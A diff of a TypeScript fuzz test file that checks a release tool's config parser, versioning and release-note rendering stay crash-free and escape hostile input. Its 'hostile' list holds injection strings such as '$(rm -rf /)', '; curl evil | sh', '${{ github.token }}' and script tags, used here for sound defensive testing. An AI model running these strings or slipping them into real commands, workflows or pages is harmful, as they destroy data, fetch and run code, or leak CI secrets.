@@ -21,7 +21,20 @@ import { escapeMarkdownInline } from '../../src/util/markdown.js';
 const hostile = fc.oneof(
   fc.string(),
   fc.string({ unit: 'grapheme', maxLength: 200 }),
-  fc.constantFrom('$(rm -rf /)', '`id`', '; curl evil | sh', '${{ github.token }}', '<script>alert(1)</script>', '[x](javascript:alert(1))', '@org/team', '| a | b |', '\u0000', '\ud800', '\r\n## [9.9.9]\n', 'x'.repeat(100_000)),
+  fc.constantFrom(
+    '$(rm -rf /)',
+    '`id`',
+    '; curl evil | sh',
+    '${{ github.token }}',
+    '<script>alert(1)</script>',
+    '[x](javascript:alert(1))',
+    '@org/team',
+    '| a | b |',
+    '\u0000',
+    '\ud800',
+    '\r\n## [9.9.9]\n',
+    'x'.repeat(100_000),
+  ),
 );
 
 /** YAML nested `depth` levels deep, written directly (a serializer would overflow first). */
@@ -32,15 +45,22 @@ function deepYaml(depth: number): string {
 describe('generated input: never a crash, always a clear answer', () => {
   it('config files: valid or a ConfigError naming the file', () => {
     fc.assert(
-      fc.property(fc.oneof(hostile, fc.jsonValue().map((v) => stringify(v)), fc.dictionary(fc.string(), fc.jsonValue()).map((v) => stringify(v))), (text) => {
-        try {
-          parseConfigText(text, '.github/mcp-release.yml');
-        } catch (error) {
-          expect(error).toBeInstanceOf(ConfigError);
-          expect((error as Error).message.startsWith('.github/mcp-release.yml')).toBe(true);
-          expect((error as Error).message).not.toContain('\n    at ');
-        }
-      }),
+      fc.property(
+        fc.oneof(
+          hostile,
+          fc.jsonValue().map((v) => stringify(v)),
+          fc.dictionary(fc.string(), fc.jsonValue()).map((v) => stringify(v)),
+        ),
+        (text) => {
+          try {
+            parseConfigText(text, '.github/mcp-release.yml');
+          } catch (error) {
+            expect(error).toBeInstanceOf(ConfigError);
+            expect((error as Error).message.startsWith('.github/mcp-release.yml')).toBe(true);
+            expect((error as Error).message).not.toContain('\n    at ');
+          }
+        },
+      ),
       { numRuns: 300 },
     );
     for (const depth of [50, 500, 5000]) expect(() => parseConfigText(deepYaml(depth), 'c.yml')).toThrow(ConfigError);
@@ -50,7 +70,8 @@ describe('generated input: never a crash, always a clear answer', () => {
     fc.assert(
       fc.property(fc.array(fc.oneof(hostile, fc.constantFrom(...Object.values(DEFAULT_LABELS)))), (labels) => {
         const decision = decideFromLabels(labels, DEFAULT_LABELS);
-        if (decision.kind === 'conflict') for (const l of decision.labels) expect(Object.values(DEFAULT_LABELS)).toContain(l.toLowerCase());
+        if (decision.kind === 'conflict')
+          for (const l of decision.labels) expect(Object.values(DEFAULT_LABELS)).toContain(l.toLowerCase());
       }),
     );
   });
@@ -63,25 +84,43 @@ describe('generated input: never a crash, always a clear answer', () => {
       }),
     );
     fc.assert(
-      fc.property(fc.tuple(fc.nat(50), fc.nat(50), fc.nat(50)), fc.constantFrom('major', 'minor', 'patch', 'prerelease') as fc.Arbitrary<'major'>, fc.array(fc.tuple(fc.nat(50), fc.nat(50), fc.nat(60)).map(([a, b, c]) => `${a}.${b}.${c}`)), ([a, b, c], bump, published) => {
-        const next = nextVersion({ current: `${a}.${b}.${c}`, bump, preid: 'beta', published });
-        expect(published).not.toContain(next);
-      }),
+      fc.property(
+        fc.tuple(fc.nat(50), fc.nat(50), fc.nat(50)),
+        fc.constantFrom('major', 'minor', 'patch', 'prerelease') as fc.Arbitrary<'major'>,
+        fc.array(fc.tuple(fc.nat(50), fc.nat(50), fc.nat(60)).map(([a, b, c]) => `${a}.${b}.${c}`)),
+        ([a, b, c], bump, published) => {
+          const next = nextVersion({ current: `${a}.${b}.${c}`, bump, preid: 'beta', published });
+          expect(published).not.toContain(next);
+        },
+      ),
     );
-    expect(() => nextVersion({ current: 'not-a-version', bump: 'patch', preid: 'beta', published: [] })).toThrow(/not a semver version/);
+    expect(() => nextVersion({ current: 'not-a-version', bump: 'patch', preid: 'beta', published: [] })).toThrow(
+      /not a semver version/,
+    );
   });
 
   it('PR titles and commit messages: escaped in notes and comments, one line each, no live HTML or mentions', () => {
     fc.assert(
       fc.property(hostile, hostile, (title, body) => {
         const parsed = parseCommitMessage(`${title}\n\n${body}`);
-        const notes = renderNotes({ entries: [{ title: parsed.subject, labels: [], breaking: parsed.breaking, pr: 1, author: title }], categories: DEFAULT_CATEGORIES });
+        const notes = renderNotes({
+          entries: [{ title: parsed.subject, labels: [], breaking: parsed.breaking, pr: 1, author: title }],
+          categories: DEFAULT_CATEGORIES,
+        });
         expect(notes).not.toMatch(/<script/i);
         expect(notes.split('\n').filter((l) => l.startsWith('- '))).toHaveLength(1);
         const escaped = escapeMarkdownInline(title);
         expect(escaped).not.toMatch(/(^|[^\\])@\w/);
         expect(escaped).not.toContain('\n');
-        const comment = planMarkdown({ name: title, current: '1.0.0', next: '1.1.0', stagingTag: 'next', finalTag: 'latest', gitTag: 'v1.1.0', notes });
+        const comment = planMarkdown({
+          name: title,
+          current: '1.0.0',
+          next: '1.1.0',
+          stagingTag: 'next',
+          finalTag: 'latest',
+          gitTag: 'v1.1.0',
+          notes,
+        });
         // Text inside a code span is shown literally; outside one, no tag may survive.
         expect(comment.replace(/`[^`\n]*`/g, '')).not.toMatch(/<script/i);
       }),
@@ -92,7 +131,12 @@ describe('generated input: never a crash, always a clear answer', () => {
   it('changelogs: any existing text keeps one section per version', () => {
     fc.assert(
       fc.property(hostile, (existing) => {
-        const section = renderSection({ version: '2.0.0', date: '2026-11-22', entries: [], categories: DEFAULT_CATEGORIES });
+        const section = renderSection({
+          version: '2.0.0',
+          date: '2026-11-22',
+          entries: [],
+          categories: DEFAULT_CATEGORIES,
+        });
         const once = insertSection(existing, '2.0.0', section);
         const twice = insertSection(once, '2.0.0', section);
         expect(twice).toBe(once);
@@ -110,10 +154,18 @@ describe('generated input: never a crash, always a clear answer', () => {
       { numRuns: 200 },
     );
     fc.assert(
-      fc.property(fc.array(fc.dictionary(fc.string(), fc.jsonValue()), { maxLength: 5 }), fc.array(fc.dictionary(fc.string(), fc.jsonValue()), { maxLength: 5 }), (a, b) => {
-        const surface = (tools: Record<string, unknown>[]) => buildSurface({ initialize: {}, lists: { tools: { items: tools.map((t, i) => ({ name: `t${i}`, ...t })) } } });
-        expect(Array.isArray(diffSurfaces(surface(a), surface(b)))).toBe(true);
-      }),
+      fc.property(
+        fc.array(fc.dictionary(fc.string(), fc.jsonValue()), { maxLength: 5 }),
+        fc.array(fc.dictionary(fc.string(), fc.jsonValue()), { maxLength: 5 }),
+        (a, b) => {
+          const surface = (tools: Record<string, unknown>[]) =>
+            buildSurface({
+              initialize: {},
+              lists: { tools: { items: tools.map((t, i) => ({ name: `t${i}`, ...t })) } },
+            });
+          expect(Array.isArray(diffSurfaces(surface(a), surface(b)))).toBe(true);
+        },
+      ),
       { numRuns: 200 },
     );
   });
